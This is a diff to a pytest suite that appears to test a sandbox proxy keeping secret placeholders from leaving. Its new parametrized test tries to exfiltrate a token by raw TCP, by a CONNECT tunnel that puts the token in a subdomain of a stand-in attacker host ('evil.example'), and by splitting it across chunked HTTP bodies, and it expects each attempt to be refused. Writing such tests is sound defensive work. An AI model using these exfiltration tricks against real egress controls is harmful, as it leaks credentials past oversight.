@@ -26,6 +26,8 @@ RULES = (
     *("http://plain.example.com", "tcp://db.example.com:5432"),
 )
 
+CHUNKED = "POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
+
 
 @pytest.fixture(scope="module")
 def world(tmp_path_factory):
@@ -156,7 +158,7 @@ def test_an_answer_that_repeats_the_value_has_the_placeholder_again(curl, world,
 @promise("P-PLACEHOLDER-NEVER-HELD")
 def test_a_password_in_base64_is_swapped_and_turned_back(curl, world, placeholders):
     placeholder = placeholders.variables["TOKEN"]
-    said = curl("-u", f"alice:{placeholder}", "https://api.example.com/")
+    said = curl("-x", "http://127.0.0.1:3128", "-u", f"alice:{placeholder}", "https://api.example.com/")
     assert world.seen[0][2]["Authorization"] == "Basic " + b64encode(f"alice:{VALUE}".encode()).decode()
     said = b64decode(json.loads(said)["headers"]["Authorization"].removeprefix("Basic ")).decode("latin-1")
     assert said.startswith(
@@ -237,10 +239,41 @@ def test_a_placeholder_goes_nowhere_else_and_whoever_sends_it_is_told_on(
 
 
 @promise("P-PLACEHOLDER-ELSEWHERE")
-def test_a_placeholder_in_something_else_than_http_ends_it(sandbox, placeholders, runs):
-    told = sandbox.tries("raw", "db.example.com", 5432, "insert", placeholders.variables["TOKEN"])
-    assert placeholders.variables["TOKEN"].upper() not in told
-    assert sandbox.refusal().why == "egress.secret"
+@pytest.mark.parametrize(
+    ("operation", "why"),
+    [
+        (("raw", "db.example.com", 5432, "insert", "{}"), "egress.secret"),
+        (("tunnel", "{}.evil.example:443", ""), "egress.secret"),
+        (("spoken", "api.example.com", f"{CHUNKED}10000\r\n{'x' * 0x10000}\r\n", "5\r\n{:.5}\r\n23\r\n{:.35}\r\n0\r\n\r\n"), "egress.place"),
+    ],
+    ids=["tcp", "connect", "pieces"],
+)  # fmt: skip
+def test_a_placeholder_goes_no_way_that_is_not_a_request(sandbox, world, placeholders, runs, operation, why):
+    token = placeholders.variables["TOKEN"]
+    parts = [token, token[5:]] if why == "egress.place" else [token]
+    told = sandbox.tries(*(one.format(*parts) if isinstance(one, str) else one for one in operation))
+    assert sandbox.refusal().why == why
+    assert token.upper() not in told
+    assert not any(token[5:].encode() in body for *_, body in world.seen)
+
+
+def test_a_body_in_which_could_be_a_placeholder_is_not_compressed(curl, world, sandbox):
+    assert "its body is compressed" in curl(
+        "-H", "Content-Encoding: gzip", "-d", "x", "https://other.example.com/"
+    )
+    assert world.seen == []
+
+
+def test_an_answer_that_ends_as_a_value_begins_comes_whole(curl):
+    said = f"ends as {KEY[:9]}"
+    assert curl("-d", said, "https://api.example.com/") == said
+
+
+def test_a_connection_ends_for_the_program_when_the_host_ends_it(sandbox, world, placeholders, runs):
+    assert (
+        sandbox.tries("left", "api.example.com", "GET /leave HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
+        == "closed"
+    )
 
 
 @promise("P-PLACEHOLDER-ELSEWHERE")
